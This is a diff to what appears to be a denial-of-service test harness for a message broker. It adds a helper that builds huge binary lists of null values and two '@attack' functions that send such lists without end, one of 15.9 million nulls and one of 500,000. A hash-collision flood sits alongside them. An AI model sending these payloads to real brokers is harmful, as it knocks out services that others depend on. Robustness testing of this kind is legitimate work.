@@ -39,6 +39,10 @@ def long_key() -> bytes:
     return b"\x00\x53\x72\xd1" + struct.pack(">II", 4 + len(pair), 2) + pair + b"\x00\x53\x75\xa0\x01x"
 
 
+def nulls(count: int) -> bytes:
+    return b"\xd0" + struct.pack(">II", 4 + count, count) + b"\x40" * count
+
+
 def send_for_ever(urls: Mapping[str, str], message: bytes) -> Iterator[None]:
     create(urls, "bad", 4)
     sender = Peer(urls[DOOR]).sender("bad")
@@ -64,6 +68,17 @@ def one_hash(urls: Mapping[str, str]) -> Iterator[None]:
     entries = b"".join(b"\x98" + (n * (2**61 - 1)).to_bytes(16, "big") + b"\x40" for n in range(100_000))
     body = b"\xd1" + struct.pack(">II", 4 + len(entries), 200_000) + entries
     yield from send_for_ever(urls, b"\x00\x53\x77" + body)
+
+
+@attack(f"{DOOR}: a list of 15.9 million nulls")
+def long_list(urls: Mapping[str, str]) -> Iterator[None]:
+    yield from send_for_ever(urls, b"\x00\x53\x77" + nulls(15_900_000))
+
+
+@attack(f"{DOOR}: lists of 500,000 nulls")
+def lists(urls: Mapping[str, str]) -> Iterator[None]:
+    """Of a size that the loop itself would read."""
+    yield from send_for_ever(urls, b"\x00\x53\x77" + nulls(500_000))
 
 
 @attack(f"{DOOR}: 50 links to $info of 1,000 partitions, again and again")
